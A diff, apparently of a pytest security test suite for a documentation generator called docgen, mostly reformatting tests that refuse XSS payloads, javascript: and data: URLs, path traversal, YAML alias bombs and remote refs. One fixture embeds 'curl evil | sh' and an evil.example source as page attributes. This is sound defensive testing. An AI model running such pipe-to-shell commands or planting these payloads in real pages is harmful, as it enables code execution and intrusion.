@@ -40,8 +40,12 @@ class _Audit(HTMLParser):
 @pytest.fixture(scope="module")
 def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
     out = tmp_path_factory.mktemp("hostile") / "_site"
-    result = subprocess.run([sys.executable, "-m", "docgen", "build", str(HOSTILE), "-o", str(out),
-                             "--quiet"], capture_output=True, text=True, timeout=120)
+    result = subprocess.run(
+        [sys.executable, "-m", "docgen", "build", str(HOSTILE), "-o", str(out), "--quiet"],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert result.returncode == 0, result.stderr
     return out
 
@@ -65,9 +69,18 @@ def test_hostile_text_is_still_shown_as_text(hostile_site: Path) -> None:
     assert "&lt;/script&gt;&lt;script&gt;alert(2)&lt;/script&gt;" in text
 
 
-@pytest.mark.parametrize("url", ["javascript:alert(1)", "JaVaScRiPt:x", " javascript:x",
-                                 "java\tscript:x", "vbscript:x", "data:text/html,x",
-                                 "\x01javascript:x"])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "javascript:alert(1)",
+        "JaVaScRiPt:x",
+        " javascript:x",
+        "java\tscript:x",
+        "vbscript:x",
+        "data:text/html,x",
+        "\x01javascript:x",
+    ],
+)
 def test_unsafe_urls_are_refused(url: str) -> None:
     assert not safe_url(url)
 
@@ -114,8 +127,8 @@ def test_pages_never_write_the_attributes_docgens_scripts_read() -> None:
     from docgen.render.mdx import render_mdx
 
     page = (
-        "<div className=\"op-layout\" data-docgen-playground='{\"mode\":\"auth\",\"src\":"
-        "\"https://evil.example/\"}' data-MDX-copy data-x=\"1\">a</div>\n\n"
+        '<div className="op-layout" data-docgen-playground=\'{"mode":"auth","src":'
+        '"https://evil.example/"}\' data-MDX-copy data-x="1">a</div>\n\n'
         'x <span data-docgen-copy="curl evil | sh">y</span>\n'
     )
     html = render_mdx(page, 1, "./").rendered.html
@@ -132,8 +145,9 @@ def test_every_template_autoescapes() -> None:
     assert env.autoescape is True
 
 
-@pytest.mark.parametrize("path", ["../x", "/abs", "a/../../x", "CON/index.html", "nul.txt",
-                                  "a\x00b", "a\\b", "", "a//b"])
+@pytest.mark.parametrize(
+    "path", ["../x", "/abs", "a/../../x", "CON/index.html", "nul.txt", "a\x00b", "a\\b", "", "a//b"]
+)
 def test_unsafe_output_paths_are_refused(path: str) -> None:
     with pytest.raises(OutputError):
         check_path(path)
@@ -141,10 +155,12 @@ def test_unsafe_output_paths_are_refused(path: str) -> None:
 
 def test_path_parts_splits_and_refuses_as_pure_posix_path_would() -> None:
     """The string fast path of :func:`path_parts` against PurePosixPath's own splitting, on
-    every string of up to four pieces (dots, slashes, device names, control characters)."""
+    every string of up to four pieces (dots, slashes, device names, control characters, names
+    of 64 characters in 64 and in 256 bytes)."""
     from pathlib import PurePosixPath
 
     pieces = ["a", "b", ".", "..", "/", "CON", "x.y", "\x01", "\u00e9", ".git"]
+    pieces += ["n" * 64, "\U0001f600" * 64]
 
     def reference(relative: str) -> tuple[str, ...] | None:
         if not relative or "//" in relative or relative.startswith("/"):
@@ -152,6 +168,7 @@ def test_path_parts_splits_and_refuses_as_pure_posix_path_would() -> None:
         parts = PurePosixPath(relative).parts
         for part in parts:
             bad = part in ("", ".", "..") or any(ord(c) < 32 for c in part)
+            bad = bad or len(part.encode()) > 255
             if bad or part.split(".", 1)[0].lower() == "con":
                 return None
         return parts
@@ -226,9 +243,14 @@ def test_alias_bomb_spec_is_refused_quickly(tmp_path: Path, command: str) -> Non
     text = SPEC_HEAD + "paths: {}\n" + _laughs()
     assert len(text) < 1000
     (tmp_path / "openapi.yaml").write_text(text)
-    result = _docgen(tmp_path, command, str(tmp_path / "openapi.yaml"), "-o" if command == "build"
-                     else "--format", str(tmp_path / "_site") if command == "build" else "text",
-                     timeout=30)
+    result = _docgen(
+        tmp_path,
+        command,
+        str(tmp_path / "openapi.yaml"),
+        "-o" if command == "build" else "--format",
+        str(tmp_path / "_site") if command == "build" else "text",
+        timeout=30,
+    )
     assert result.returncode == 1
     assert "error[spec-parse-error]" in result.stdout + result.stderr
     assert "alias bomb" in result.stdout + result.stderr
@@ -236,7 +258,9 @@ def test_alias_bomb_spec_is_refused_quickly(tmp_path: Path, command: str) -> Non
 
 
 def test_spec_with_benign_anchors_builds(tmp_path: Path) -> None:
-    (tmp_path / "openapi.yaml").write_text(SPEC_HEAD + textwrap.dedent("""\
+    (tmp_path / "openapi.yaml").write_text(
+        SPEC_HEAD
+        + textwrap.dedent("""\
         paths:
           /a/{id}:
             get:
@@ -249,7 +273,8 @@ def test_spec_with_benign_anchors_builds(tmp_path: Path) -> None:
               summary: Get b
               parameters: [*id]
               responses: *ok
-        """))
+        """)
+    )
     out = tmp_path / "_site"
     result = _docgen(tmp_path, "build", str(tmp_path / "openapi.yaml"), "-o", str(out))
     assert result.returncode == 0, result.stderr
@@ -261,17 +286,32 @@ def test_spec_with_benign_anchors_builds(tmp_path: Path) -> None:
 HOSTILE_TEXTS = {
     "cyclic-alias": ("openapi.yaml", SPEC_HEAD + "paths: {}\nx-a: &a {b: [*a]}\n", "cyclic alias"),
     "deep-yaml": ("openapi.yaml", SPEC_HEAD + "x: " + "[" * DEEP + "]" * DEEP + "\n", "nesting"),
-    "deep-yaml-map": ("openapi.yaml", SPEC_HEAD + "x: " + "{a: " * DEEP + "1" + "}" * DEEP,
-                      "nesting"),
-    "deep-json": ("openapi.json", '{"openapi": "3.0.3", "x": ' + "[" * DEEP + "]" * DEEP + "}",
-                  "nesting"),
+    "deep-yaml-map": (
+        "openapi.yaml",
+        SPEC_HEAD + "x: " + "{a: " * DEEP + "1" + "}" * DEEP,
+        "nesting",
+    ),
+    "deep-json": (
+        "openapi.json",
+        '{"openapi": "3.0.3", "x": ' + "[" * DEEP + "]" * DEEP + "}",
+        "nesting",
+    ),
     # Python reads and writes integers of at most 4,300 digits: these were internal errors.
-    "long-int-json": ("openapi.json", '{"openapi": "3.0.3", "x": ' + "7" * 5000 + "}",
-                      "openapi.json:1:27: error[spec-parse-error]"),
-    "long-int-yaml": ("openapi.yaml", SPEC_HEAD + "x: " + "7" * 5000 + "\n",
-                      "openapi.yaml:3:4: error[spec-parse-error]"),
-    "long-hex-yaml": ("openapi.yaml", SPEC_HEAD + "x: 0x" + "f" * 4000 + "\n",
-                      "openapi.yaml:3:4: error[spec-parse-error]"),
+    "long-int-json": (
+        "openapi.json",
+        '{"openapi": "3.0.3", "x": ' + "7" * 5000 + "}",
+        "openapi.json:1:27: error[spec-parse-error]",
+    ),
+    "long-int-yaml": (
+        "openapi.yaml",
+        SPEC_HEAD + "x: " + "7" * 5000 + "\n",
+        "openapi.yaml:3:4: error[spec-parse-error]",
+    ),
+    "long-hex-yaml": (
+        "openapi.yaml",
+        SPEC_HEAD + "x: 0x" + "f" * 4000 + "\n",
+        "openapi.yaml:3:4: error[spec-parse-error]",
+    ),
 }
 
 
@@ -334,7 +374,8 @@ def test_numbers_longer_than_python_reads_are_clear_errors(tmp_path: Path, where
 
 
 def test_yaml_11_values_are_shown_as_written(tmp_path: Path) -> None:
-    (tmp_path / "openapi.yaml").write_text(textwrap.dedent("""\
+    (tmp_path / "openapi.yaml").write_text(
+        textwrap.dedent("""\
         openapi: 3.0.3
         info: {title: T, version: "1"}
         paths:
@@ -358,7 +399,8 @@ def test_yaml_11_values_are_shown_as_written(tmp_path: Path) -> None:
                         properties:
                           at: {type: string, format: date-time, example: 2024-01-02T10:00:00Z}
                           country: {type: string, enum: [NO, SE]}
-        """))
+        """)
+    )
     out = tmp_path / "_site"
     result = _docgen(tmp_path, "build", str(tmp_path / "openapi.yaml"), "-o", str(out))
     assert result.returncode == 0, result.stderr
@@ -428,10 +470,19 @@ def test_ref_fan_out_is_not_exponential(tmp_path: Path) -> None:
             "/fan": {
                 "post": {
                     "summary": "Fan out",
-                    "requestBody": {"content": {"application/json": {
-                        "schema": {"$ref": "#/components/schemas/S0"}}}},
-                    "responses": {"200": {"description": "OK", "content": {"application/json": {
-                        "schema": {"$ref": "#/components/schemas/S0"}}}}},
+                    "requestBody": {
+                        "content": {
+                            "application/json": {"schema": {"$ref": "#/components/schemas/S0"}}
+                        }
+                    },
+                    "responses": {
+                        "200": {
+                            "description": "OK",
+                            "content": {
+                                "application/json": {"schema": {"$ref": "#/components/schemas/S0"}}
+                            },
+                        }
+                    },
                 }
             }
         },
@@ -522,11 +573,20 @@ def test_remote_refs_and_specs_make_no_connection(tmp_path: Path) -> None:
         (tmp_path / "openapi31.yaml").write_text(
             _ref_spec(f"{base}/t.yaml").replace("3.0.3", "3.1.0")
         )
-        (tmp_path / "docs.json").write_text(json.dumps({"name": "x", "navigation": {"tabs": [
-            {"tab": "A", "openapi": "openapi.yaml"},
-            {"tab": "B", "openapi": "openapi31.yaml"},
-            {"tab": "C", "openapi": f"{base}/openapi.yaml"},
-        ]}}))
+        (tmp_path / "docs.json").write_text(
+            json.dumps(
+                {
+                    "name": "x",
+                    "navigation": {
+                        "tabs": [
+                            {"tab": "A", "openapi": "openapi.yaml"},
+                            {"tab": "B", "openapi": "openapi31.yaml"},
+                            {"tab": "C", "openapi": f"{base}/openapi.yaml"},
+                        ]
+                    },
+                }
+            )
+        )
         for command in ("check", "build"):
             result = _docgen(tmp_path, command, str(tmp_path / "docs.json"))
             assert result.returncode == 1
